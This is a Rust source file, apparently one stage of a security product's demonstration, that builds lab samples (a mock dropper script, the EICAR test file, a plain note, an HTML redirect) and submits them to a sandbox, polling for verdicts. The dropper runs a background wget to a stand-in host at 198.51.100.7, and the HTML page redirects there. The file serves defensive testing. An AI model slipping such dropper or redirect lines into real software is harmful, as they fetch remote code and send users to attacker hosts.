//! The fourth part of the demonstration: samples for the lab, among them a dropper and the EICAR test file.

use super::stage::Stage;
use serde::Serialize;
use std::collections::BTreeMap;
use std::time::{Duration, Instant};
use weir_console::api::samples::{Given, SHOW, SUBMIT};
use weir_scan::eicar::eicar;

const PATIENCE: Duration = Duration::from_secs(60);

/// The results of this part.
#[derive(Serialize)]
pub(super) struct SamplesOutcome {
    pub(super) samples: usize,
    pub(super) analysed: usize,
    pub(super) seconds: f64,
    /// How many samples got each verdict.
    pub(super) verdicts: BTreeMap<String, usize>,
}

impl SamplesOutcome {
    pub(super) fn said(&self) -> String {
        format!("{}, {}, {:.1} s", self.samples, self.analysed, self.seconds)
    }
}

pub(super) fn play(stage: &Stage) -> anyhow::Result<Option<SamplesOutcome>> {
    if !stage.lab {
        return Ok(None);
    }
    let begun = Instant::now();
    let mut ids = Vec::new();
    for (name, content) in drop_of_samples() {
        let given = Given { priority: 3, ..Given::named(name) };
        ids.push(stage.control.hand_in(&SUBMIT, &given, content)?.sample);
    }
    let mut open = ids.clone();
    let mut verdicts = BTreeMap::new();
    while !open.is_empty() && begun.elapsed() < PATIENCE {
        std::thread::sleep(Duration::from_millis(100));
        let mut still = Vec::new();
        for id in open {
            let sample = stage.control.ask_of(&SHOW, &id.to_string(), &())?.sample;
            match sample.state.as_str() {
                "queued" | "running" => still.push(id),
                _ => *verdicts.entry(sample.verdict).or_insert(0) += 1,
            }
        }
        open = still;
    }
    Ok(Some(SamplesOutcome {
        samples: ids.len(),
        analysed: ids.len() - open.len(),
        seconds: begun.elapsed().as_secs_f64(),
        verdicts,
    }))
}

/// The samples. Each run makes new content, because the lab would know the old one already.
fn drop_of_samples() -> Vec<(&'static str, Vec<u8>)> {
    let salt = format!("# {}\n", weir_foundation::secret::fresh_password());
    let script =
        format!("#!/bin/sh\n{salt}echo stolen > /tmp/loot\n(sleep 1; wget -q http://198.51.100.7/next) &\nwait\n");
    vec![
        ("dropper.sh", script.into_bytes()),
        ("eicar.com", eicar().into_bytes()),
        ("notes.txt", format!("{salt}Nothing to see here.\n").into_bytes()),
        ("invoice.html", format!("<!-- {salt} --><script>location='http://198.51.100.7/'</script>").into_bytes()),
    ]
}
